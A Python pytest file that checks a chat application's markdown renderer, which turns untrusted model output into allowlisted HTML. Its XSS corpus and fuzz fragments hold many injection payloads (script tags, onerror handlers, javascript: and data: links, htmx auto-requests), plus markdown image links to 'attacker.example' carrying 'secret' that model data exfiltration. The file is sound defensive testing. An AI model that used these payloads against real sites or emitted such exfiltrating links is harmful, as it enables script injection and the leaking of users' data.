"""chat.rendering: untrusted model markdown -> safe HTML (ECOSYSTEM.md §2, §7 bar 1).

The allowlists below are written out independently of chat.rendering on purpose: widening the
module's allowlist must fail here until the test is changed too.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat import rendering
from chat.rendering import highlight_code, pygments_css, render_markdown, render_plain, split_stable_prefix

TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6",
    "strong", "em", "s", "del", "code", "pre", "span", "blockquote",
    "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "a",
}  # fmt: skip
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
    "span": {"class"},
    "pre": {"class"},
    "code": {"class"},
}
REL = "noopener noreferrer nofollow"
SCHEMES = {"http", "https", "mailto"}
CLASS_RE = {
    "span": re.compile(r"[a-z][a-z0-9]{0,3}"),  # Pygments short token classes: k, nf, s1, ...
    "pre": re.compile(r"highlight"),
    "code": re.compile(r"language-[a-z0-9+#._-]+"),
}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.oddities: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.oddities.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.oddities.append(f"decl {decl!r}")

    def handle_pi(self, data):
        self.oddities.append(f"pi {data!r}")

    def unknown_decl(self, data):
        self.oddities.append(f"unknown decl {data!r}")


def parse(out: str) -> _Collector:
    collector = _Collector()
    collector.feed(out)
    collector.close()
    return collector


def assert_safe(out: str) -> _Collector:
    """Only allowlisted tags/attributes/classes; every link absolute http(s)/mailto with rel."""
    assert isinstance(out, str)
    doc = parse(out)
    assert not doc.oddities, doc.oddities
    for tag, attrs in doc.elements:
        assert tag in TAGS, (tag, out)
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names)), (tag, attrs)
        for name, value in attrs:
            assert not name.startswith(("on", "hx-", "data-")), (tag, name)
            assert name not in {"style", "src", "srcdoc", "action", "formaction"}, (tag, name)
            assert name in ATTRIBUTES.get(tag, set()), (tag, name, out)
            if name == "class":
                for cls in (value or "").split():
                    assert CLASS_RE[tag].fullmatch(cls), (tag, cls)
            if name == "align":
                assert value in {"left", "center", "right"}
            if name == "start":
                assert value is not None and value.isdigit()
        if tag == "a":
            attr = dict(attrs)
            assert attr.get("rel") == REL, attrs
            if "href" in attr:
                href = attr["href"] or ""
                assert href == href.strip()
                assert urlsplit(href).scheme in SCHEMES, href
                if not href.startswith("mailto:"):
                    assert urlsplit(href).netloc, href
    lowered = out.lower()
    for needle in ("<script", "<img", "<iframe", "<style", "<svg", "<math", "<!--"):
        assert needle not in lowered, (needle, out)
    return doc


# --------------------------------------------------------------------------- XSS corpus

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x] and [y][x]",
    "[v](vbscript:msgbox(1)) [f](file:///etc/passwd)",
    '<a hx-get="/admin" hx-trigger="load">x</a>',
    '<div hx-post="/chat/1/delete" hx-trigger="load" hx-target="body"></div>',
    "![exfil](https://attacker.example/?q=secret)",
    '![exfil](https://attacker.example/?q=secret "t")',
    "[![exfil](https://attacker.example/?q=1)](https://ok.example/)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body { display: none }</style>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[d](data:text/html,<script>alert(1)</script>)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3C;img src=x onerror=alert(1)&#x3E;",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onclick=alert(1)\nx\n```",
    '~~~ " onmouseover="alert(1)\nx\n~~~',
    '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    '<https://ok.example/" onmouseover="alert(1)>',
    "[x](//evil.example/path) [y](/admin/) [z](#top) [w](?q=1)",
    "| a | b |\n|---|:-:|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "> <img src=x onerror=alert(1)>\n> > <script>x</script>",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    '<a href="javascript:alert(1)">x</a>',
    '<form action="/logout" method="post"><button>x</button></form><input autofocus onfocus=alert(1)>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    "<!-- comment --><![CDATA[ x ]]><?php echo 1; ?>",
    "\x00<script>alert(1)</script>\x00",
    "`<script>alert(1)</script>` and ``<img src=x onerror=alert(1)>``",
    "    <script>alert(1)</script>\n",
    "<<script>script>alert(1)<</script>/script>",
    '<p style="background:url(javascript:alert(1))" class="x">x</p>',
    '<span class="k" onclick="alert(1)">x</span>',
]


@pytest.mark.parametrize("source", XSS)
def test_xss_corpus_yields_no_executable_markup(source):
    assert_safe(render_markdown(source))
    assert_safe(render_markdown(source, highlight=False))


def test_raw_html_is_shown_as_text():
    out = render_markdown('<a hx-get="/admin" hx-trigger="load">x</a> <b>bold</b>')
    assert "&lt;a hx-get=" in out and "&lt;b&gt;bold&lt;/b&gt;" in out
    assert "<b>" not in out and "<a " not in out


def test_dangerous_link_destinations_stay_literal_text():
    for source in ("[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[r](/admin/)"):
        out = render_markdown(source)
        assert "<a" not in out
        assert html.escape(source, quote=False) in out


def test_markdown_image_becomes_a_link_never_an_img():
    out = render_markdown("![exfil](https://attacker.example/?q=secret)")
    assert "<img" not in out
    assert '<a href="https://attacker.example/?q=secret" rel="noopener noreferrer nofollow">exfil</a>' in out
    # empty alt shows the URL, so the reader sees where it goes
    assert ">https://x.example/a.png</a>" in render_markdown("![](https://x.example/a.png)")
    # an image inside a link must not nest anchors: only its alt text remains
    doc = assert_safe(render_markdown("[![pic](https://a.example/p.png) caption](https://b.example/)"))
    assert [tag for tag, _ in doc.elements].count("a") == 1
    assert "pic caption" in "".join(doc.text)


def test_fence_language_cannot_inject_attributes():
    out = render_markdown('```"><script>alert(1)</script>\nx\n```')
    assert out == '<pre class="highlight"><code>x\n</code></pre>\n'


# --------------------------------------------------------------------------- features


def test_headings_emphasis_and_inline_code():
    out = render_markdown("# One\n\n### Three\n\n**b** *i* ~~gone~~ `a < b && c`")
    assert "<h1>One</h1>" in out and "<h3>Three</h3>" in out
    assert "<strong>b</strong> <em>i</em> <s>gone</s>" in out
    assert "<code>a &lt; b &amp;&amp; c</code>" in out
    assert_safe(out)


def test_lists_blockquote_rule_and_breaks():
    out = render_markdown("- a\n- b\n\n3. x\n4. y\n\n> quoted\n\n---\n\nline  \nbreak")
    assert "<ul>\n<li>a</li>\n<li>b</li>\n</ul>" in out
    assert '<ol start="3">\n<li>x</li>' in out
    assert "<blockquote>\n<p>quoted</p>\n</blockquote>" in out
    assert "<hr>" in out and "line<br>" in out
    assert_safe(out)


def test_table_with_alignment():
    out = render_markdown("| l | c | r |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert '<th align="left">l</th>' in out
    assert '<th align="center">c</th>' in out
    assert '<td align="right">3</td>' in out
    assert "style=" not in out
    assert_safe(out)


def test_links_get_rel_and_keep_title():
    out = render_markdown(
        '[docs](https://example.com/a?b=1&c=2 "Docs") <mailto:me@example.com> <me@example.com>'
    )
    assert (
        '<a href="https://example.com/a?b=1&amp;c=2" title="Docs" rel="noopener noreferrer nofollow">'
        "docs</a>" in out
    )
    assert out.count('href="mailto:me@example.com"') == 2
    assert_safe(out)


def test_no_linkify_and_no_typographer():
    out = render_markdown('see https://example.com -- "quoted" (c)')
    assert "<a" not in out
    assert "https://example.com -- \"quoted\" (c)" in out


def test_fenced_python_gets_pygments_spans():
    out = render_markdown("```python\ndef f(x):\n    return x < 1\n```")
    assert out.startswith('<pre class="highlight"><code class="language-python">')
    assert '<span class="k">def</span>' in out
    assert '<span class="nf">f</span>' in out
    assert '<span class="o">&lt;</span>' in out
    assert_safe(out)


def test_language_aliases_map_to_the_canonical_class():
    assert '<code class="language-python">' in render_markdown("```py\nx = 1\n```")
    assert '<code class="language-javascript">' in render_markdown("```JS\nlet x = 1;\n```")
    assert '<code class="language-python">' in render_markdown("```python {.numberLines}\nx\n```")


def test_unknown_language_and_indented_code_are_escaped_plain_text():
    out = render_markdown("```nosuchlang\n<b>x</b> & y\n```")
    assert out == '<pre class="highlight"><code>&lt;b&gt;x&lt;/b&gt; &amp; y\n</code></pre>\n'
    out = render_markdown("    indented <i>\n")
    assert out == '<pre class="highlight"><code>indented &lt;i&gt;\n</code></pre>\n'


def test_every_language_class_survives_sanitizing():
    canonical = sorted(set(rendering._LEXER_ALIASES.values()))
    out = render_markdown("\n\n".join(f"```{name}\nx\n```" for name in canonical), highlight=False)
    assert out.count('<code class="language-') == len(canonical) > 300
    assert_safe(out)


def test_code_keeps_leading_blank_lines_and_indentation():
    out = render_markdown("```python\n\n    x = 1\n```")
    assert '<code class="language-python">\n    <span class="n">x</span>' in out


def test_highlight_false_keeps_markup_without_spans():
    out = render_markdown("```python\ndef f(): pass\n```", highlight=False)
    assert out == '<pre class="highlight"><code class="language-python">def f(): pass\n</code></pre>\n'


def test_empty_and_whitespace_input():
    assert render_markdown("") == ""
    assert render_markdown("  \n\n ") == ""


def test_lone_surrogates_do_not_crash():
    out = render_markdown("a\ud800b **c**")
    assert "a\ufffdb <strong>c</strong>" in out


# --------------------------------------------------------------------------- limits


def test_input_over_the_cap_is_plain_escaped_text():
    at_cap = "**b** " + "a" * (rendering.MAX_RENDER_CHARS - 6)
    assert render_markdown(at_cap).startswith("<p><strong>b</strong>")
    over = "**b** <script>alert(1)</script>" + "a" * rendering.MAX_RENDER_CHARS
    out = render_markdown(over)
    assert out.startswith("<p><em>This response is too long to format")
    assert "<pre><code>**b** &lt;script&gt;alert(1)&lt;/script&gt;aaa" in out
    assert "<strong>" not in out
    assert_safe(out)


def test_code_block_over_the_highlight_cap_is_not_lexed():
    code = "x = 1\n" * (rendering.MAX_HIGHLIGHT_CHARS // 6 + 1)
    out = render_markdown(f"```python\n{code}```")
    assert "<span" not in out
    assert out.startswith('<pre class="highlight"><code class="language-python">x = 1\n')


def test_highlight_budget_is_per_render(monkeypatch):
    monkeypatch.setattr(rendering, "MAX_HIGHLIGHT_TOTAL", 25)
    block = "```python\nx = 1\n```\n\n"  # 6 characters of code
    out = render_markdown(block * 6)
    assert out.count('<span class="n">x</span>') == 4
    assert out.count("<code class=\"language-python\">x = 1\n") == 2
    # the budget is fresh for the next render
    assert render_markdown(block).count("<span") > 0


def test_link_label_scanning_is_bounded(monkeypatch):
    calls = 0
    skip = rendering._MD.inline.skipToken

    def counting(state):
        nonlocal calls
        calls += 1
        skip(state)

    monkeypatch.setattr(rendering._MD.inline, "skipToken", counting)
    out = render_markdown("[" * 6_000 + "![" * 2_000)  # unbounded: ~1.4M steps
    assert calls <= rendering.MAX_LINK_SCAN_STEPS
    assert out.startswith("<p>[[[")
    # ordinary documents stay far below the budget and keep their links
    calls = 0
    out = render_markdown("see [a *b* `c`](https://x.example/) and ![d](https://y.example/)\n\n" * 200)
    assert calls < rendering.MAX_LINK_SCAN_STEPS // 10
    assert out.count("<a ") == 400


def test_link_budget_spent_leaves_literal_text(monkeypatch):
    monkeypatch.setattr(rendering, "MAX_LINK_SCAN_STEPS", 3)
    out = render_markdown("[a](https://a.example/) [b](https://b.example/)")
    assert out == (
        '<p><a href="https://a.example/" rel="noopener noreferrer nofollow">a</a> '
        "[b](https://b.example/)</p>\n"
    )


def test_very_long_link_text_is_not_a_link():
    too_long = "a" * (rendering.MAX_LINK_LABEL + 5)
    assert "<a" not in render_markdown(f"[{too_long}](https://x.example/)")
    assert "<a" in render_markdown("[" + "a" * 50 + "](https://x.example/)")


# --------------------------------------------------------------------------- render_plain


def test_render_plain_escapes_everything_html_cares_about():
    assert render_plain("<a href=\"x\" onclick='y'>&amp;</a>") == (
        "&lt;a href=&quot;x&quot; onclick=&#x27;y&#x27;&gt;&amp;amp;&lt;/a&gt;"
    )
    assert render_plain("line 1\n  line 2") == "line 1\n  line 2"


# --------------------------------------------------------------------------- properties

_FRAGMENTS = [
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "<a hx-get=/x hx-trigger=load>", "</a>",
    "javascript:", "JaVaScRiPt:", "data:text/html,", "https://x.example/", "mailto:a@b.c", "//e.example",
    "[", "]", "(", ")", "![", "](", "<", ">", "&", "&#", "&lt;", ";", '"', "'", "`", "```", "~~~",
    "```python\n", "```\"><b>\n", "*", "**", "_", "~~", "#", "# ", "- ", "1. ", "> ", "|", "|---|",
    "\n", "\n\n", "    ", " ", "\t", "\\", "---", "===", "x", "alert(1)", "onerror=", "style=",
    "class=k", "\x00", "\u2028", "\ufeff",
]  # fmt: skip
markdownish = st.lists(st.sampled_from(_FRAGMENTS), max_size=40).map("".join)


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.text(max_size=300), markdownish))
def test_any_text_renders_to_allowlisted_html(text):
    assert_safe(render_markdown(text))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200))
def test_render_plain_round_trips(text):
    out = render_plain(text)
    assert not set(out) & set("<>\"'")
    assert html.unescape(out) == text


# --------------------------------------------------------------------------- stylesheet


def test_committed_stylesheet_matches_pygments_css():
    path = Path(__file__).resolve().parents[2] / "static" / "chat" / "pygments.css"
    assert path.read_text(encoding="utf-8") == pygments_css(), (
        "regenerate: .venv/bin/python -m chat.rendering > static/chat/pygments.css"
    )


def test_stylesheet_is_scoped_and_has_both_themes():
    """System theme by media query, or the theme picked in the page (<html data-theme>)."""
    css = pygments_css()
    assert "@media (prefers-color-scheme: dark)" in css
    assert "@media not all and (prefers-color-scheme: dark)" in css
    rules = [line.strip() for line in css.splitlines() if "{" in line and not line.startswith("@")]
    auto = ":root:not([data-theme=light]):not([data-theme=dark]) .highlight"
    scopes = (auto, ":root[data-theme=light] .highlight", ":root[data-theme=dark] .highlight")
    assert rules and all(rule.startswith(scopes) for rule in rules), rules
    for scope in scopes:
        assert f"{scope} .k {{" in css


def test_highlight_code_escapes_and_keeps_the_text():
    from html import unescape

    code = '{"a": "<b>&</b>"}'
    out = highlight_code(code, "json")
    assert "<b>" not in out and '<span class="p">' in out
    assert unescape(re.sub(r"<[^>]+>", "", out)) == code  # the text, to the byte
    assert highlight_code("<x>", "no-such-language") == "&lt;x&gt;"


# --------------------------------------------------------------------------- split_stable_prefix


@pytest.mark.parametrize(
    ("text", "stable"),
    [
        ("", ""),
        ("one paragraph", ""),
        ("a\n\n", ""),
        ("a\n\nb", "a\n\n"),
        ("a\n\nb\n\nc\nd", "a\n\nb\n\n"),
        ("a\n \t\n\nb", "a\n \t\n\n"),
        ("a\r\n\r\nb", "a\r\n\r\n"),
        ("intro\n\n```py\nx\n\ny", "intro\n\n"),
        ("```\na\n\nb\n```\n\nafter", "```\na\n\nb\n```\n\n"),
        ("~~~~\na\n~~~\n\nstill code\n~~~~\n\nafter", "~~~~\na\n~~~\n\nstill code\n~~~~\n\n"),
        ("```\na\n~~~\n\nstill code", ""),
        ("  ```\ncode\n\n  ```\n\nafter", "  ```\ncode\n\n  ```\n\n"),
        ("``` a`b\n\nc", "``` a`b\n\n"),  # not a fence: backtick info strings cannot hold a backtick
        ("    ```\n\nc", "    ```\n\n"),  # indented code, not a fence
        ("- a\n\n  continued", ""),  # indented: may still belong to the list item
        ("x\n\n    code", ""),
    ],
)
def test_split_stable_prefix(text, stable):
    assert split_stable_prefix(text) == (stable, text[len(stable) :])


_SPLIT_ALPHABET = st.sampled_from(
    ["\n", "\n\n", "\r\n", "\r", " ", "  ", "\t", "```", "~~~", "`", "a", "- ", "> "]
)


@settings(max_examples=120, deadline=None)
@given(st.lists(_SPLIT_ALPHABET, max_size=40).map("".join), st.data())
def test_split_is_lossless_and_monotone(text, data):
    stable, tail = split_stable_prefix(text)
    assert stable + tail == text
    cut = data.draw(st.integers(0, len(text)))
    assert stable.startswith(split_stable_prefix(text[:cut])[0])


def test_stable_prefix_renders_like_the_full_text():
    text = (
        "# Title\n\nSome *text*.\n\n```python\ndef f():\n\n    return 1\n```\n\n"
        "| a |\n|---|\n| 1 |\n\nTail is stream"
    )
    stable, tail = split_stable_prefix(text)
    assert tail == "Tail is stream"
    assert render_markdown(stable) + render_markdown(tail) == render_markdown(text)
